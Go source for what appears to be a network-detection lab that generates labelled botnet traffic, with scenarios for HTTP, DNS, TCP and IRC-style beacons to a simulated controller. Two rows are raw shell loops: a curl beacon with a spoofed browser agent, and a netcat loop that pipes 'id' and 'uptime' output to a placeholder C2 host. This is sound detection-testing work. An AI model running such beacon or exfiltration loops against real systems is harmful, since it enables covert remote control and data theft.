package lab

import (
	"context"
	"fmt"
	"strings"
	"time"

	"firetower/internal/attack"
)

// bots: a person's machine that calls its controller outside.
func bots() []Scenario {
	some := family{class: attack.Bot, limit: 120 * time.Second, play: call}
	long := some.within(600 * time.Second)
	return []Scenario{
		some.within(100*time.Second).row("beacon-http", "SELF beacon -url http://C2/beat -every SHORT -for 95s -jitter 0"),
		some.row("beacon-http-jitter", "SELF beacon -url http://C2/beat -every SHORT -for 115s -jitter JITTER"),
		some.row("beacon-https", "SELF beacon -url https://C2/beat -every SHORT -for 115s -jitter JITTER"),
		some.row("beacon-https-keep", "SELF beacon -url https://C2/beat -every SHORT -for 115s -jitter JITTER -keep"),
		some.row("beacon-dns", "SELF beacon -url dns:cdn-sync.example -every SHORT -for 115s -jitter JITTER"),
		some.row("beacon-tcp", "SELF beacon -url tcp:C2:CHATPORT -every SHORT -for 115s -jitter JITTER"),
		some.row("beacon-dead", "SELF beacon -url tcp:C2:4444 -every SHORT -for 115s -jitter JITTER"),
		long.row("beacon-long", "SELF beacon -url http://C2/beat -every LONG -for 590s -jitter 0"),
		long.row("beacon-long-jitter", "SELF beacon -url https://C2/beat -every LONG -for 590s -jitter JITTER"),
		some.row("curl-loop", "while :; do curl -s -o /dev/null -A 'Mozilla/4.0 (compatible; MSIE 8.0)' http://C2/beat?id=7f3a; sleep SHORTNUM; done"),
		some.row("shell-loop", "while :; do (id; uptime) | nc -w 2 C2 CHATPORT; sleep SHORTNUM; done", attack.Infiltration),
		some.within(150*time.Second).row("irc-bot", "SELF chat -dial C2:CHATPORT -every 9s -for 145s"),
	}
}

func call(ctx context.Context, r *Run, line string) error {
	c2, err := r.host(ctx, "controller", false)
	if err != nil {
		return err
	}
	bot := r.People[r.IntN(len(r.People))]
	r.Truth.Attackers = append(r.Truth.Attackers, r.at(bot))
	port := r.pick("6667", "8443", "9001", "1337", "8081")
	dns := strings.Contains(line, "dns:")
	if dns {
		r.against(r.DNS)
	} else {
		r.against(c2)
		if err := c2.ServeSite(ctx, r.Rand, 0); err != nil {
			return err
		}
		if err := c2.Serve(self(), "actor", "chat", "-listen", ":"+port, "-every", "15s"); err != nil {
			return err
		}
	}
	short := r.between(2, 6)
	line = strings.NewReplacer("C2", r.at(c2).String(), "SHORTNUM", fmt.Sprint(short), "SHORT", fmt.Sprintf("%ds", short), "LONG", fmt.Sprintf("%ds", r.between(20, 45)),
		"JITTER", fmt.Sprintf("%.2f", 0.05+0.35*r.Float64()), "CHATPORT", port).Replace(line)
	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
		r.actor(ctx, bot, "%s -seed %d", rest, r.Uint64())
		return nil
	}
	r.play(ctx, bot, "%s", line)
	return nil
}
